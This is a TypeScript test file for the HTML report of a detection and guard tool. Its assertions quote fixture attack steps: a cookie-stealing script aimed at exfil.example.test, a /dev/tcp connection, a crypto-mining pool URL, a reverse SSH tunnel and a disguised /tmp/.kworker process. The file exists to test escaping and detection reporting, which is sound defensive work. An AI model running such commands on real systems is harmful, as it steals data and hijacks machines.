// The HTML report as text: everything the run produced is in it, escaped, with nothing loaded from
// outside the file. What a browser shows is html-report-browser.test.ts.
import * as assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { RedteamReport, ScenarioResult } from '../redteam-result.js';
import { renderHtmlReport, writeHtmlReport } from './html-report.js';
import { esc } from './report-format.js';
import { REPORT_FIXTURE } from './report-fixture.js';

const html = renderHtmlReport(REPORT_FIXTURE);

function scenario(id: string): ScenarioResult {
  const s = REPORT_FIXTURE.scenarios.find((x) => x.id === id);
  assert.ok(s, `fixture has ${id}`);
  return s;
}

/** The HTML of one scenario's section. */
function section(page: string, id: string): string {
  const start = page.indexOf(`<section class="card scenario`, page.indexOf(`id="scenario-${id}"`) - 80);
  assert.ok(start >= 0, `section for ${id}`);
  return page.slice(start, page.indexOf('</section>', start));
}

describe('renderHtmlReport', () => {
  it('escapes commands and observations: a <script> in a command is text, never an element', () => {
    assert.doesNotMatch(html, /<script/i);
    assert.match(html, /printf &#39;&lt;script&gt;fetch\(&quot;http:\/\/exfil\.example\.test\/\?d=&quot;\+document\.cookie\)&lt;\/script&gt;&#39;/);
    assert.match(html, /upload\?part=1&amp;of=3/);
    assert.match(html, /&lt;html&gt;&lt;body&gt;ok &amp; &quot;stored&quot;&lt;\/body&gt;&lt;\/html&gt;/);
    assert.match(html, /open=\$\(\(open\+1\)\); done/);
    assert.match(html, /3&lt;&gt;\/dev\/tcp\/10\.200\.0\.1/);
  });

  it('escapes ids in attributes', () => {
    const odd: RedteamReport = { ...REPORT_FIXTURE, scenarios: [{ ...scenario('benign-pip-pytest'), id: 'x"><img src=y>' }] };
    const page = renderHtmlReport(odd);
    assert.doesNotMatch(page, /<img/);
    assert.match(page, /id="scenario-x&quot;&gt;&lt;img src=y&gt;"/);
  });

  it('stands alone: no scripts, stylesheets, images or fonts from anywhere', () => {
    assert.doesNotMatch(html, /<(link|img|iframe|object|embed)\b/i);
    assert.doesNotMatch(html, /\bsrc=|url\(|@import/i);
    assert.deepEqual(html.match(/href="[^#][^"]*"/g), null, 'every link is an anchor in the page');
  });

  it('has a section, an anchor and a table row for every scenario', () => {
    for (const s of REPORT_FIXTURE.scenarios) {
      assert.match(html, new RegExp(`<section class="card scenario (passed|failed)" id="scenario-${s.id}"`));
      assert.match(html, new RegExp(`<tr class="(passed|failed)" data-scenario="${s.id}">`));
      assert.ok(html.includes(`href="#scenario-${s.id}"`), `link to ${s.id}`);
      assert.ok(html.includes(esc(s.title)), `title of ${s.id}`);
      assert.equal(section(html, s.id).match(/<li class="step/g)?.length, s.timeline.length, `steps of ${s.id}`);
    }
  });

  it('prints the summary figures, when and where it ran', () => {
    const header = html.slice(html.indexOf('<header'), html.indexOf('</header>'));
    for (const text of ['Recall', '>50%<', '1 of 2 adversarial detected', 'False-alert rate', '>0%<', '0 of 1 benign alerted', 'Containment', '1 of 2 adversarial contained', '>1,536<', '1 of 3 scenarios failed', '2025-06-14 09:30:00 UTC', 'ci-runner-7', 'praetor 0.1.0', 'took 20.50 s']) {
      assert.ok(header.includes(text), `header shows ${text}`);
    }
    assert.match(header, /Passed<\/div><div class="value">2</);
    assert.match(header, /Failed<\/div><div class="value">1</);
  });

  it('lists each expectation as technique@step with its rules and time to detect', () => {
    const row = html.slice(html.indexOf('data-scenario="rome-replay"'), html.indexOf('</tr>', html.indexOf('data-scenario="rome-replay"')));
    for (const e of ['T1496@2', 'T1496@3', 'T1572@4', 'T1046@5', 'title="miner-pool-url, mining-pool-port"', 'ssh-reverse-tunnel', '41 ms', '1.46 s']) {
      assert.ok(row.includes(e), `row shows ${e}`);
    }
  });

  it('shows failures with their reasons, in the table and on the failing step', () => {
    const failed = scenario('adv-chunked-exfil');
    const body = section(html, failed.id);
    assert.match(body, /^<section class="card scenario failed"/);
    for (const reason of failed.failures) assert.ok(body.includes(esc(reason)), `reason: ${reason}`);
    assert.match(body, /<li class="step missed" data-step="1">/);
    assert.match(body, /expected T1041: NOT detected/);
    assert.match(body, /guard did NOT act/);
    assert.match(html, /<tr class="failed" data-scenario="adv-chunked-exfil">.*✗ missed.*expected 1; never acted/s);
    assert.match(section(html, 'rome-replay'), /^<section class="card scenario passed"/);
  });

  it('puts the ROME steps in order with their alerts, denied connections and guard actions', () => {
    const body = section(html, 'rome-replay');
    const steps = [...body.matchAll(/data-step="(\d+)"/g)].map((m) => Number(m[1]));
    assert.deepEqual(steps, [0, 1, 2, 3, 4, 5]);
    const order = ['docs.example.test/setup.md', 'calc.py', 'stratum+tcp://pool.example.test:3333', '--proxytunnel', '-R 2222:localhost:22', 'open ports found'];
    const at = order.map((t) => body.indexOf(esc(t)));
    assert.ok(at.every((i, k) => i > 0 && (k === 0 || i > (at[k - 1] ?? 0))), `in order: ${at.join(', ')}`);
    assert.match(body, /10 connections refused by the firewall/);
    assert.match(body, /sev-critical">critical<\/span> <code>ssh-reverse-tunnel<\/code> T1572 after 9 ms/);
    assert.match(body, /guard<\/span> <strong>kill-tree<\/strong> → <code>pid 4121 \(\/tmp\/\.kworker\)<\/code>/);
    assert.match(body, /\+0 ms · took 310 ms/);
    assert.match(body, /\+7\.80 s · took 1\.98 s/);
  });

  it('marks a benign scenario’s false alerts on their step', () => {
    const base = scenario('benign-pip-pytest');
    const [first, second] = base.timeline;
    assert.ok(first && second);
    const fp = { ruleId: 'mining-pool-domain', technique: 'T1496', severity: 'high' as const, time: second.startedAt + 30, timeToDetectMs: 30, description: 'pool list hit' };
    const noisy: ScenarioResult = { ...base, passed: false, failures: ['1 false alert: mining-pool-domain at step 1'], falseAlerts: [{ ...fp, step: 1 }], timeline: [first, { ...second, alerts: [fp] }] };
    const body = section(renderHtmlReport({ ...REPORT_FIXTURE, scenarios: [noisy] }), base.id);
    assert.match(body, /1 false alert:/);
    assert.match(body, /<li class="alert false-alert">.*mining-pool-domain.*\(false alert\)/);
  });

  it('writes the page to a file', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'praetor-report-'));
    try {
      await writeHtmlReport(join(dir, 'report.html'), REPORT_FIXTURE);
      assert.equal(await readFile(join(dir, 'report.html'), 'utf8'), html);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
